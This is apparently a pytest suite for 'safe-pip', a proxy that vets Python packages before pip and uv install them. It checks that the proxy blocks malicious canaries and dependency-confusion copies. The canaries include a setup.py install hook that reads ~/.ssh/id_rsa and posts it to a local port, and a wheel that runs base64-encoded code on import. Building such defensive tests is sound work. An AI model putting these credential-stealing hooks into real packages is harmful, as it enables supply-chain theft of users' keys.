"""The gating proxy with the real pip and the real uv, end to end.

A fixture index (built and served by the test on 127.0.0.1) sits behind the proxy. Clean
wheels install with their dependencies; malicious canaries are refused with a reason the
installer prints, and the marker file they would write never appears.
"""

from __future__ import annotations

import base64
import os
import pathlib
import re
import signal
import shutil
import socket
import subprocess
import sys

import pytest

from fixtures_index import IndexServer, build_sdist, build_wheel, isolated_env, make_venv, run, venv_python

from safe_pip import _core


def malicious_setup(marker: pathlib.Path) -> str:
    # A canary: it reads a key that does not exist under the test's HOME and posts to the
    # discard port on 127.0.0.1; the marker proves whether it ever ran.
    return f'''
import os, urllib.request
open({str(marker)!r}, "w").write("setup.py ran")
from setuptools import setup
from setuptools.command.install import install

class Steal(install):
    def run(self):
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("http://127.0.0.1:9/collect", data=key.encode())
        install.run(self)

setup(name="evilsdist", version="1.0", cmdclass={{"install": Steal}})
'''


def decode_exec_init(marker: pathlib.Path) -> str:
    payload = base64.b64encode(f"open({str(marker)!r}, 'w').write('imported')".encode()).decode()
    return f"import base64\nexec(base64.b64decode({payload!r}))\n"


@pytest.fixture(autouse=True)
def no_user_config(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The in-process proxy reads pip's settings (certs, netrc) from this process's
    environment: point it at an empty home so the user's configuration is never read."""
    env = isolated_env(tmp_path / "proxy-home")
    for k in list(os.environ):
        if k not in env:
            monkeypatch.delenv(k)
    for k, v in env.items():
        monkeypatch.setenv(k, v)


@pytest.fixture
def world(tmp_path: pathlib.Path):
    """Packages, a fixture index serving them, a marker path and an isolated environment."""
    pkgs = tmp_path / "packages"
    pkgs.mkdir()
    marker = tmp_path / "marker"
    build_wheel(pkgs, "cleanpkg", "1.0", {"cleanpkg/__init__.py": "from helperdep import twice\nVALUE = twice(21)\n"}, requires=("helperdep>=1.0",))
    build_wheel(pkgs, "helperdep", "1.0", {"helperdep/__init__.py": "def twice(x):\n    return 2 * x\n"})
    build_sdist(pkgs, "evilsdist", "1.0", {"setup.py": malicious_setup(marker)})
    build_wheel(pkgs, "canarywheel", "1.0", {"canarywheel/__init__.py": decode_exec_init(marker)})
    with IndexServer(pkgs) as index:
        yield {
            "tmp": tmp_path,
            "index": index,
            "marker": marker,
            "env": isolated_env(tmp_path / "home"),
        }


@pytest.fixture(scope="module")
def template_venv(tmp_path_factory) -> pathlib.Path:
    return make_venv(tmp_path_factory.mktemp("template") / "venv").parent.parent


@pytest.fixture
def pip_venv(world, template_venv) -> pathlib.Path:
    """A fresh venv with pip: a copy of one made per module (creating one takes seconds).
    Only `python -m pip` is used, which does not depend on the venv's location."""
    venv = world["tmp"] / "venv"
    shutil.copytree(template_venv, venv, symlinks=True)
    return venv_python(venv)


def pip_install(python: pathlib.Path, index_url: str, env, *pkgs: str) -> subprocess.CompletedProcess[str]:
    return run([str(python), "-m", "pip", "install", "--no-cache-dir", "--index-url", index_url, *pkgs], env)


def uv_bin() -> str:
    uv = pytest.importorskip("uv", reason="uv is part of the 'test' extra")
    return uv.find_uv_bin()


def test_pip_installs_a_clean_package_and_its_dependency(world, pip_venv) -> None:
    with _core.Proxy([world["index"].url], db=str(world["tmp"] / "db.sqlite")) as proxy:
        proc = pip_install(pip_venv, proxy.index_url(), world["env"], "cleanpkg")
        assert proc.returncode == 0, proc.stdout + proc.stderr
        events = proxy.events()
    check = run([str(pip_venv), "-c", "import cleanpkg; print(cleanpkg.VALUE)"], world["env"])
    assert check.stdout.strip() == "42", check.stderr
    served = {e["filename"]: e for e in events if e["served"]}
    assert set(served) == {"cleanpkg-1.0-py3-none-any.whl", "helperdep-1.0-py3-none-any.whl"}
    assert all(e["verdict"] == "allow" and e["sha256"] and e["project"] for e in served.values())
    assert world["index"].file_requests("helperdep-1.0-py3-none-any.whl") == 1


def test_pip_refuses_a_malicious_sdist_and_its_setup_py_never_runs(world, pip_venv) -> None:
    with _core.Proxy([world["index"].url]) as proxy:
        proc = pip_install(pip_venv, proxy.index_url(), world["env"], "evilsdist")
        events = proxy.events()
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out
    # pip prints the reason phrase of the 403 (never the body).
    assert re.search(r"403 Client Error: Forbidden by safe-pip: blocked evilsdist-1\.0\.tar\.gz: \S+", out), out
    assert "safe-pip explain" in out
    assert not world["marker"].exists(), "the canary's setup.py ran"
    blocked = [e for e in events if not e["served"]]
    assert [e["filename"] for e in blocked] == ["evilsdist-1.0.tar.gz"]
    assert blocked[0]["verdict"] == "block" and blocked[0]["alerts"], blocked[0]
    assert {a["severity"] for a in blocked[0]["alerts"]} >= {"critical"}


def test_pip_refuses_a_wheel_that_would_run_code_on_import(world, pip_venv) -> None:
    with _core.Proxy([world["index"].url]) as proxy:
        proc = pip_install(pip_venv, proxy.index_url(), world["env"], "canarywheel")
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out
    assert "Forbidden by safe-pip: blocked canarywheel-1.0-py3-none-any.whl" in out, out
    imported = run([str(pip_venv), "-c", "import canarywheel"], world["env"])
    assert imported.returncode != 0 and "ModuleNotFoundError" in imported.stderr
    assert not world["marker"].exists()


def test_uv_installs_clean_and_refuses_malicious_with_the_reason(world) -> None:
    uv = uv_bin()
    env = world["env"]
    venv = world["tmp"] / "uv-venv"
    made = run([uv, "venv", "--python", sys.executable, str(venv)], env)
    assert made.returncode == 0, made.stderr
    python = venv_python(venv)
    with _core.Proxy([world["index"].url]) as proxy:
        ok = run([uv, "pip", "install", "--no-cache", "--python", str(python), "--index-url", proxy.index_url(), "cleanpkg"], env)
        assert ok.returncode == 0, ok.stdout + ok.stderr
        bad = run([uv, "pip", "install", "--no-cache", "--python", str(python), "--index-url", proxy.index_url(), "evilsdist"], env)
        worse = run([uv, "pip", "install", "--no-cache", "--python", str(python), "--index-url", proxy.index_url(), "canarywheel"], env)
    assert run([str(python), "-c", "import cleanpkg"], env).returncode == 0
    for proc, filename in ((bad, "evilsdist-1.0.tar.gz"), (worse, "canarywheel-1.0-py3-none-any.whl")):
        out = proc.stdout + proc.stderr
        assert proc.returncode != 0, out
        assert f"Forbidden by safe-pip: blocked {filename}" in out, out
    assert not world["marker"].exists()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_unreachable_upstream_fails_with_a_clear_reason(world, pip_venv) -> None:
    dead = f"http://127.0.0.1:{free_port()}/simple/"
    with _core.Proxy([dead]) as proxy:
        proc = pip_install(pip_venv, proxy.index_url(), world["env"], "cleanpkg")
        problems = proxy.problems()
    assert proc.returncode != 0
    # pip hides why an index page failed; the proxy keeps it for the caller to print.
    assert problems and "unreachable" in problems[0] and "cleanpkg" in problems[0], problems


def test_uv_shows_why_an_unreachable_upstream_failed(world) -> None:
    uv = uv_bin()
    dead = f"http://127.0.0.1:{free_port()}/simple/"
    venv = world["tmp"] / "uv-venv"
    assert run([uv, "venv", "--python", sys.executable, str(venv)], world["env"]).returncode == 0
    with _core.Proxy([dead]) as proxy:
        proc = run([uv, "pip", "install", "--no-cache", "--python", str(venv_python(venv)), "--index-url", proxy.index_url(), "cleanpkg"], world["env"])
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert "Bad Gateway from safe-pip: cannot read project cleanpkg" in out and "unreachable" in out, out


def test_safe_pip_proxy_command_prints_urls_logs_verdicts_and_stops_on_sigterm(world, pip_venv) -> None:
    exe = shutil.which("safe-pip")
    assert exe, "the safe-pip console script is installed with the package"
    port = free_port()
    cmd = [exe, "proxy", "--port", str(port), "--index-url", world["index"].url]
    server = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=world["env"])
    try:
        banner = []
        for line in server.stdout:
            banner.append(line)
            if line.startswith("Press Ctrl-C"):
                break
        text = "".join(banner)
        index_url = f"http://127.0.0.1:{port}/u/0/simple/"
        assert f"index URL: {index_url}" in text, text
        assert f"uv pip install --index-url {index_url}" in text and f"index-url = {index_url}" in text
        ok = pip_install(pip_venv, index_url, world["env"], "cleanpkg")
        assert ok.returncode == 0, ok.stdout + ok.stderr
        bad = pip_install(pip_venv, index_url, world["env"], "evilsdist")
        assert bad.returncode != 0 and "Forbidden by safe-pip: blocked evilsdist-1.0.tar.gz" in bad.stdout + bad.stderr
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            _, err = server.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
            raise
    assert server.returncode == 0, err
    assert "ALLOW cleanpkg-1.0-py3-none-any.whl" in err and "BLOCK evilsdist-1.0.tar.gz" in err, err
    assert "stopped" in err
    # The port is free again.
    with socket.socket() as s:
        s.bind(("127.0.0.1", port))
    assert not world["marker"].exists()


def test_proxy_urls_stop_and_check_name() -> None:
    assert _core.check_name("requests") is None
    hit = _core.check_name("reqeusts")
    assert hit and hit["alert"] == "typosquat" and hit["similar_to"] == "requests", hit
    proxy = _core.Proxy(["http://127.0.0.1:9/simple/"])
    try:
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+", proxy.url)
        assert proxy.index_url(0) == proxy.url + "/u/0/simple/"
        with pytest.raises(IndexError):
            proxy.index_url(1)
    finally:
        proxy.stop()
        proxy.stop()  # idempotent


def test_the_proxy_keeps_internal_names_to_their_own_index(tmp_path, monkeypatch) -> None:
    """Dependency confusion through the standalone proxy (the one the Poetry plugin
    starts): an internal name published on a second index is refused from there, and its
    own index still serves it — the same gate as `safe-pip install`."""
    own_pkgs, public_pkgs = tmp_path / "own", tmp_path / "public"
    own_pkgs.mkdir()
    public_pkgs.mkdir()
    build_wheel(own_pkgs, "acme-utils", "1.0", {"acme_utils/__init__.py": "VALUE = 1\n"})
    # the attacker's copy: a higher version of the same name
    build_wheel(public_pkgs, "acme-utils", "99.0", {"acme_utils/__init__.py": "VALUE = 2\n"})
    with IndexServer(own_pkgs) as own, IndexServer(public_pkgs) as public:
        monkeypatch.setenv("SAFE_PIP_INTERNAL", f"acme-*={own.url}")
        with _core.Proxy([own.url, public.url], db=str(tmp_path / "db.sqlite"), project_dir=str(tmp_path)) as proxy:
            import urllib.error
            import urllib.request

            own_page = urllib.request.urlopen(proxy.index_url(0) + "acme-utils/").read().decode()
            assert "acme_utils-1.0-py3-none-any.whl" in own_page
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(proxy.index_url(1) + "acme-utils/")
            # a page refused as "not here" (404), so pip looks no further on that index
            assert refused.value.code == 404 and "dependency-confusion" in refused.value.reason, refused.value.reason
        assert public.file_requests("acme_utils-99.0-py3-none-any.whl") == 0
